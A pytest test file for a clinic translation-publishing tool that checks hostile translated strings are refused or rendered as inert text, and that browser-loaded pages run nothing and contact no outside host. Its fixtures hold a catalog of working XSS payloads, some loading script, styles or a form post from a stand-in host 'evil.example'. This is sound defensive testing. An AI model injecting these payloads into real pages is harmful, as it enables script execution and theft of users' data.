"""Hostile translations, all their findings waived by a careless clinician: from the catalog to a real browser.

What sanitising would change is not signed. What is signed is shown as it was typed: nothing runs, nothing
is asked of others, nothing swallows what follows, and machines read the words that people read.
"""

import io
import re
import shutil
from dataclasses import dataclass, replace

import pytest

from salerno.model import EventType
from salerno.page.names import SCRIPT, shipped
from salerno.pipeline import decide, signoff
from salerno.pipeline.build import build
from salerno.pipeline.handout import handout
from salerno.pipeline.pages import pages
from salerno.pipeline.recording import record_events
from salerno.pipeline.verify import ground_of, verify
from salerno.store import catalogs
from tests_support import clinic, desk_of, key_of, make_workspace, register, sign, write

pytestmark = pytest.mark.timeout(300)
"""Hundreds of texts are signed, published and walked through at once."""

LOCALE = "ar"
"""From right to left: there a page is read and written once more after it is sanitised."""
EVIL = "https://evil.example"
TEXTS = {
    "script": "<script>alert(1)</script>",
    "script elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script that closes ours": "</script><script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT >",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror with slashes": "<img/src=x/onerror=alert(1)>",
    "onclick": '<b onclick="alert(1)">x</b>',
    "onfocus": "<b tabindex=0 autofocus onfocus=alert(1)>x</b>",
    "an image elsewhere": f'<img src="{EVIL}/x.png" alt="x">',
    "an image elsewhere, in Markdown": f"![x]({EVIL}/x.png)",
    "an image elsewhere, by protocol": "![x](//evil.example/x.png)",
    "javascript": "[x](javascript:alert(1))",
    "javascript in HTML": '<a href="javascript:alert(1)">x</a>',
    "javascript with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript with a control": "[x](\x01javascript:alert(1))",
    "javascript in an autolink": "<javascript:alert(1)>",
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript": "[x](vbscript:msgbox(1))",
    "the end of the article": "</p></article><script>alert(1)</script>",
    "the end of the page": "</article></main></body></html>x",
    "another article": "<article>x</article>",
    "svg": "<svg onload=alert(1)>",
    "svg with a style": f"<svg><style>@import '{EVIL}/x.css';</style></svg>",
    "math": "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "base": f'<base href="{EVIL}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"style-src 'none'\">",
    "style": "<style>article { display: none }</style>",
    "style elsewhere": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "style of an element": f'<b style="background: url({EVIL}/x.png)">x</b>',
    "expression": '<b style="width: expression(alert(1))">x</b>',
    "a class of ours": '<b class="notice">x</b>',
    "form": f'<form action="{EVIL}"><input name="dose"><button>x</button></form>',
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "iframe in itself": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed": f'<embed src="{EVIL}/x.swf">',
    "video": f'<video src="{EVIL}/x.mp4" autoplay onerror=alert(1)></video>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "a comment without end": "<!-- x",
    "a comment that ends early": "<!--> <script>alert(1)</script> -->",
    "textarea": "<textarea>",
    "plaintext": "<plaintext>",
    "title": "<title>x</title>",
    "template": "<template><script>alert(1)</script></template>",
    "frameset": f'<frameset><frame src="{EVIL}/"></frameset>',
    "a bold without end": "<b>x",
    "a link around the rest": f'<a href="{EVIL}/">x',
    "a mark of ours": '<span data-salerno="0">x</span>',
    "an id of ours": '<b id="page.text">x</b>',
    "template syntax": "{{ 7 * 7 }}{% raw %}{# x #}",
    "quotes": "\"x\" 'y' `z` « »",
    "signs": "a < b & c > d &amp; &lt;b&gt; &#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "the end of CDATA": "]]><script>alert(1)</script>",
    "an override": "\u202e15\u202c",
    "an override without end": "\u202e15",
    "an override as an entity": "&#x202e;15",
    "an isolate without end": "\u206615",
    "an isolate too many": "15\u2069",
    "an isolate as an entity": "&#8294;15",
    "NUL as an entity": "x&#0;y",
    "half a surrogate as an entity": "x&#xD800;y",
    "a control character": "x\x1b[2Jy\x08\x7f",
    "zalgo": "x" + "\u0336\u0489\u0360" * 60 + "y",
    "zero width": "x\u200b\u200d\ufeffy",
    "line separators": "x\u2028y\u2029z",
    "no character": "x\ufffe\uffffy",
    "a heading": "# x",
    "a list": "- x\n- y",
    "a link definition": f"[above]: {EVIL}",
    "a front matter": "---\ntitle: x\n---",
}  # fmt: skip
MAY_STAND = {
    "onerror with slashes", "javascript", "javascript with a control", "javascript in an autolink",
    "vbscript", "a class of ours", "a comment without end", "a bold without end",
    "a link around the rest", "a mark of ours", "an id of ours", "template syntax", "quotes", "signs",
    "an override", "an override without end", "an override as an entity", "an isolate without end",
    "an isolate too many", "an isolate as an entity", "NUL as an entity",
    "half a surrogate as an entity", "a control character", "zalgo", "zero width",
    "line separators", "no character", "a heading", "a list", "a link definition", "a front matter",
}  # fmt: skip
"""What may be signed in text, once its findings are waived; all others are refused."""
IN_HTML = {"javascript in an autolink"}
"""Of these, what is a tag in an HTML block and is refused there."""
IN_MARKDOWN = {"an image elsewhere, in Markdown", "an image elsewhere, by protocol"}
"""What is refused in Markdown, and in an HTML block mere words."""
TITLES = (
    "script", "script that closes ours", "onerror", "the end of the page", "title", "base",
    "a comment without end", "a comment that ends early", "textarea", "the end of CDATA",
    "template syntax", "quotes", "signs", "an override without end", "an isolate without end",
    "a control character", "zalgo", "line separators", "no character",
)  # fmt: skip
NUMBERS = {name: number for number, name in enumerate(TEXTS)}
IN_TEXT = ("Heading", "Paragraph", "Cell")
KINDS = (*IN_TEXT, "Block", "Image", "Link", "Attribute")
"""Words of an attribute are shown as they are, whatever is in them."""
PLACE = re.compile(rf"({'|'.join((*KINDS, 'Name', 'Said', 'Topic'))}) number (\d+)")


def attack_article():
    """Return an article with a unit of each kind for each text, and a sentence after each."""
    blocks = ["# Attack", "Read [above](#attack)."]
    for number in NUMBERS.values():
        blocks += [
            f"## Heading number {number}",
            f"Paragraph number {number}",
            f"| Head {number} |\n|---|\n| Cell number {number} |",
            f"![Image number {number}](dose.png)",
            f'[Here](https://example.org/ "Link number {number}")',
            f'<p title="Attribute number {number}">Block number {number}</p>',
            f"After {number} comes this.",
        ]
    return "\n\n".join(blocks) + "\n"


def title_article(number):
    return (
        f"---\ntitle: Name number {number}\ndescription: Said number {number}\n"
        f"topic: Topic number {number}\n---\n\nText {number}.\n"
    )


def attacked(text):
    """Return a unit's text with the hostile one in the place of its words."""
    return PLACE.sub(lambda match: list(TEXTS.values())[int(match[2])], text)


def translate(workspace, slug, target_of):
    path = workspace.catalog(slug, LOCALE)
    catalog = catalogs.read(workspace, path)
    entries = [
        replace(entry, targets=(target_of(entry.unit.source),), fuzzy=False)
        for entry in catalog.entries
    ]
    catalogs.write(workspace, path, replace(catalog, entries=tuple(entries)))


def sign_all(workspace, slug):
    """Approve and waive whatever can be; return why it is not signed."""
    seat, key = desk_of(workspace, slug, LOCALE), key_of(workspace)
    decided = seat.decisions()
    waivers = [
        seat.event(EventType.WAIVE, entry, check=check, reason="Careless.")
        for entry in seat.entries()
        for check in sorted({finding.check for finding in decide.open_findings(entry, decided)})
    ]
    record_events(workspace, slug, LOCALE, lambda: waivers, key)
    decide.approve_entries(seat, seat.entries())
    return signoff.sign_off(desk_of(workspace, slug, LOCALE), key).reasons


@dataclass
class Attacked:
    """A workspace in which everything hostile was signed that can be, and why the rest was not."""

    workspace: object
    reasons: tuple[str, ...]
    refused: set[tuple[str, str]]
    """Kind of unit, and name of the text."""
    drafts: object
    """The folder of previews as they were before anything was refused."""


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    workspace = make_workspace(folder / "clinic", (LOCALE,), engines=("pseudo",))
    write(workspace, "source/attack.md", attack_article())
    write(workspace, "source/dose.png", "image")
    for name in TITLES:
        write(workspace, f"source/t-{NUMBERS[name]}.md", title_article(NUMBERS[name]))
    build(workspace)
    register(workspace, "ana", "clinician", "linguist", locales=(LOCALE,), public_name=True)
    sign(workspace, "site", LOCALE)
    translate(workspace, "attack", attacked)
    pages(workspace)
    drafts = shutil.copytree(workspace.preview, folder / "drafts")
    reasons = sign_all(workspace, "attack")
    sources = {
        entry.unit.key: entry.unit.source
        for entry in desk_of(workspace, "attack", LOCALE).entries()
    }
    places = [PLACE.search(sources[reason.split()[0]]).groups() for reason in reasons]
    names = list(TEXTS)
    refused = {(kind, names[int(number)]) for kind, number in places}
    bad = {sources[reason.split()[0]] for reason in reasons}
    translate(workspace, "attack", lambda text: text if text in bad else attacked(text))
    assert sign_all(workspace, "attack") == ()
    for name in TITLES:
        translate(workspace, f"t-{NUMBERS[name]}", attacked)
        assert sign_all(workspace, f"t-{NUMBERS[name]}") == ()
    pages(workspace)
    return Attacked(workspace, reasons, refused, drafts)


def test_what_sanitising_would_change_is_not_signed(attack):
    for kind in IN_TEXT:
        refused = {name for place, name in attack.refused if place == kind}
        assert refused == TEXTS.keys() - MAY_STAND, kind
    in_html = {name for place, name in attack.refused if place == "Block"}
    assert in_html == TEXTS.keys() - MAY_STAND - IN_MARKDOWN | IN_HTML
    assert all("no page may show" in reason for reason in attack.reasons)


def test_what_was_signed_is_proved(attack):
    found = list(verify(attack.workspace.site, ground_of(attack.workspace)))

    assert len(found) > len(TITLES)
    assert [page for page in found if not page.ok] == []


FORBIDDEN = (
    "applet, audio, base, button, canvas, dialog, embed, form, frame, frameset, iframe, input, "
    "marquee, math, noscript, object, plaintext, select, source, svg, template, textarea, video, xmp"
)
LOOK = """(forbidden) => {
  const found = [...document.querySelectorAll(forbidden)].map((e) => e.localName);
  for (const e of document.querySelectorAll("*")) {
    for (const { name, value } of e.attributes) {
      const plain = value.replace(/[\\x00-\\x20]/g, "").toLowerCase();
      if (name.startsWith("on") || name === "style" || /^(javascript|data|vbscript):/.test(plain))
        found.push(`${name} of ${e.localName}`);
    }
    if (e.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(e.namespaceURI);
  }
  const count = (selector) => document.querySelectorAll(selector).length;
  return {
    found,
    scripts: [...document.scripts].filter((s) => s.type !== "application/ld+json").map((s) => s.text),
    outside: count("body style, body link, body meta, body title, head > :not(meta, title, style, link, script)"),
    policies: count("meta[http-equiv]"),
    sheets: [...document.querySelectorAll("link:not([rel=alternate], [rel=canonical])")].length,
    frame: [count("main"), count("header"), count("body > footer"), count("[id='page.text']")],
    articles: count("article"),
    nested: count("article article, article footer, article main, article nav"),
    data: [...document.querySelectorAll("script[type='application/ld+json']")].map((s) => JSON.parse(s.text)),
    title: document.title,
    description: document.querySelector("meta[name=description]")?.content,
    og: document.querySelector("meta[property='og:title']")?.content,
    text: document.querySelector("article")?.innerText ?? "",
    whole: document.body.innerText,
    images: [...document.images].map((i) => i.src),
  };
}"""

SETTLED = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"


def walked_through(chromium, *folders):
    """Open every page of some folders in a browser; return what stands on each, and what happened."""
    happened = []
    context = chromium.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    page.on("download", lambda download: happened.append(download.url))
    page.on("popup", lambda popup: happened.append(popup.url))
    context.on("request", lambda request: happened.append(request.url))
    seen = {}
    for path in sorted(path for folder in folders for path in folder.rglob("*.html")):
        page.goto(path.as_uri())
        page.mouse.move(200, 300)
        page.evaluate(SETTLED)
        assert page.url == path.as_uri()
        seen[path] = page.evaluate(LOOK, FORBIDDEN)
    page.wait_for_load_state("networkidle")
    context.close()
    return seen, happened


@pytest.fixture(scope="module")
def walked(attack, chromium):
    workspace = attack.workspace
    return walked_through(chromium, workspace.site, workspace.preview, attack.drafts)


def check_harmless(walked, root):
    """Insist that nothing ran, that nobody else was asked, and that pages are made of what they are made of."""
    seen, happened = walked
    script = shipped(SCRIPT).split()

    assert [each for each in happened if not each.startswith(f"{root.as_uri()}/")] == []
    for path, page in seen.items():
        assert page["found"] == [], path
        assert all(text.split() == script for text in page["scripts"])
        assert (page["outside"], page["policies"], page["sheets"], page["nested"]) == (0, 0, 0, 0)
        assert page["frame"] == [1, 1, 1, 1]
        assert page["articles"] <= 1
        assert all(src.startswith("file://") for src in page["images"] if src)


@pytest.mark.chromium
def test_nothing_runs_and_a_browser_builds_every_page_from_known_elements(attack, walked):
    assert len(walked[0]) > 100
    check_harmless(walked, attack.workspace.root.parent)


CHROME = """"'></title></style></script><script>alert(1)</script><img src=x onerror=alert(1)><!-- \\22 ;} @import "https://evil.example/x.css"; {"""


@pytest.mark.chromium
def test_hostile_page_chrome_is_words_on_every_page_and_on_paper(tmp_path, chromium):
    workspace = make_workspace(tmp_path / "clinic", (LOCALE,), engines=("pseudo",))
    for slug in ("fever", "cough"):
        write(workspace, f"source/{slug}.md", f"# About {slug}\n\nRest.\n")
    build(workspace)
    register(workspace, "ana", "clinician", "linguist", locales=(LOCALE,))
    path = workspace.catalog("site", LOCALE)
    catalog = catalogs.read(workspace, path)
    entries = [
        replace(entry, fuzzy=False, targets=tuple(CHROME + text for text in entry.targets))
        for entry in catalog.entries
    ]
    catalogs.write(workspace, path, replace(catalog, entries=tuple(entries)))
    assert sign_all(workspace, "site") == ()
    for slug in ("fever", "cough"):
        sign(workspace, slug, LOCALE)
    pages(workspace)
    signoff.withdraw(desk_of(workspace, "cough", LOCALE), reason="No.", key=key_of(workspace))
    pages(workspace)
    seen, happened = walked_through(chromium, workspace.site, workspace.preview)
    check_harmless((seen, happened), workspace.root)
    for name in ("fever/index.html", "fever/how.html", "cough/index.html", "index.html"):
        page = seen[workspace.site / LOCALE / name]
        assert "onerror=alert(1)><!--" in page["whole"], name
    assert all(page.ok for page in verify(workspace.site, ground_of(workspace)))
    assert addresses_in(handout(workspace, ["fever"], LOCALE).path) == set()


@pytest.mark.chromium
def test_nothing_swallows_what_follows_it(attack, walked):
    for folder in (attack.workspace.site, attack.workspace.preview, attack.drafts):
        text = walked[0][folder / LOCALE / "attack" / "index.html"]["text"]
        found = [int(number) for number in re.findall(r"After\W+(\d+)\W+comes this", text)]

        assert found == list(NUMBERS.values())


@pytest.mark.chromium
def test_what_was_typed_is_shown_as_it_was_typed(attack, walked):
    text = walked[0][attack.workspace.site / LOCALE / "attack" / "index.html"]["text"]
    for name in ("javascript", "vbscript", "template syntax", "a comment without end", "a list"):
        assert " ".join(TEXTS[name].split()) in plain(text), name


@pytest.mark.chromium
@pytest.mark.parametrize("name", TITLES)
def test_a_hostile_title_is_the_same_to_people_and_machines(attack, walked, name):
    wanted = plain(TEXTS[name])
    folder = attack.workspace.site / LOCALE
    page = walked[0][folder / f"t-{NUMBERS[name]}" / "index.html"]
    (data,) = page["data"]

    assert plain(data["name"]) == plain(data["description"]) == wanted
    assert plain(page["title"]) == plain(page["og"]) == plain(page["description"]) == wanted
    assert wanted in plain(walked[0][folder / "index.html"]["whole"])


def plain(text):
    """Return a text as its readers have it: isolates are ours; spaces and what is no letter are all alike."""
    text = re.sub("[\u2066-\u2069]", "", text)
    return " ".join(re.sub("[\x00-\x1f\x7f]", " ", text).split())


def addresses_in(path):
    """Return the places outside of a handout to which something in it leads."""
    pikepdf = pytest.importorskip("pikepdf")
    found = pikepdf.open(path).objects
    return {
        str(each.URI) for each in found if isinstance(each, pikepdf.Dictionary) and "/URI" in each
    }


def test_a_hostile_title_is_words_on_paper_too(attack):
    pikepdf = pytest.importorskip("pikepdf")
    for name in ("script", "the end of the page", "base", "quotes"):
        path = handout(attack.workspace, [f"t-{NUMBERS[name]}"], LOCALE).path
        pdf = pikepdf.open(io.BytesIO(path.read_bytes()))
        actions = [
            each for each in pdf.objects if isinstance(each, pikepdf.Dictionary) and "/S" in each
        ]

        assert plain(TEXTS[name]) in plain(str(pdf.docinfo.Title))
        assert not {"/OpenAction", "/AA", "/AcroForm"} & set(pdf.Root.keys())
        assert not {"/JavaScript", "/Launch", "/SubmitForm"} & {str(each.S) for each in actions}


BYTES = {
    "NUL": b"\0",
    "half a surrogate": b"\xed\xa0\x80",
    "no UTF-8": b"\xff",
    "a long form": b"\xc0\xbc",
}


@pytest.mark.parametrize("name", BYTES)
def test_bytes_that_are_no_text_are_named_with_their_line(tmp_path, salerno, name):
    workspace = clinic(tmp_path / "clinic")
    path = workspace.catalog("fever", "es")
    data = path.read_bytes()
    line = data[: data.index("⟦".encode())].count(b"\n") + 1
    path.write_bytes(data.replace("⟦".encode(), "⟦".encode() + BYTES[name], 1))
    site = {each: each.read_bytes() for each in workspace.site.rglob("*") if each.is_file()}
    for command in ("pages", "build", "check"):
        result = salerno("-C", workspace.root, command)

        assert result.status == 2
        assert f"locales/es/LC_MESSAGES/fever.po:{line}: " in result.err
    assert {each: each.read_bytes() for each in workspace.site.rglob("*") if each.is_file()} == site


def long_article(folder, words):
    """Return a workspace with a translation that holds a long paragraph."""
    workspace = make_workspace(folder, (LOCALE,), engines=("pseudo",))
    write(workspace, "source/attack.md", "# Attack\n\nParagraph number 1.\n\nAfter this.\n")
    build(workspace)
    register(workspace, "ana", "clinician", "linguist", locales=(LOCALE,))
    sign(workspace, "site", LOCALE)
    translate(workspace, "attack", lambda text: words if PLACE.search(text) else text)
    pages(workspace)
    return workspace


@pytest.mark.parametrize("words", ["**خذ** " * 11_000, "x" * 120_000], ids=len)
def test_no_paragraph_is_signed_that_nobody_could_prove(tmp_path, words):
    workspace = long_article(tmp_path / "clinic", words)
    (reason,) = sign_all(workspace, "attack")

    assert reason.startswith("nobody could prove a page of it")
    pages(workspace)
    assert not (workspace.site / LOCALE / "attack").exists()


@pytest.mark.parametrize("words", ["خذ 5 mg. " * 9_000, "**خذ** " * 7_000], ids=len)
def test_a_long_paragraph_is_signed_and_proved(tmp_path, words):
    workspace = long_article(tmp_path / "clinic", words)

    assert sign_all(workspace, "attack") == ()
    pages(workspace)
    assert [page for page in verify(workspace.site, ground_of(workspace)) if not page.ok] == []


@pytest.mark.chromium
def test_a_paragraph_of_a_megabyte_is_shown_in_its_preview(tmp_path, chromium):
    workspace = long_article(tmp_path / "clinic", "خذ قرصين. " * 60_000)
    page = chromium.new_page()
    page.goto((workspace.preview / LOCALE / "attack" / "index.html").as_uri())
    text = plain(page.locator("article").inner_text(timeout=60_000))
    page.close()

    assert text.count("قرصين") == 60_000
    assert text.endswith("After this.")


def test_a_picture_from_elsewhere_is_told_and_only_its_words_are_shown(tmp_path, salerno):
    workspace = clinic(tmp_path / "clinic")
    picture = "![A pill](https://example.org/pill.png)"
    write(workspace, "source/fever.md", f"# Fever\n\nDrink water.\n\n{picture}\n")
    result = salerno("-C", workspace.root, "build")
    html = (workspace.site / "en" / "fever" / "index.html").read_text("utf-8")

    assert result.status == 0
    assert "source/fever.md:5: a picture from elsewhere" in result.err
    assert '<img alt="A pill">' in html
    assert "example.org/pill" not in html
    sign(workspace)
    pages(workspace)
    assert all(page.ok for page in verify(workspace.site, ground_of(workspace)))
    assert "example.org/pill" not in (workspace.site / "es/fever/index.html").read_text("utf-8")
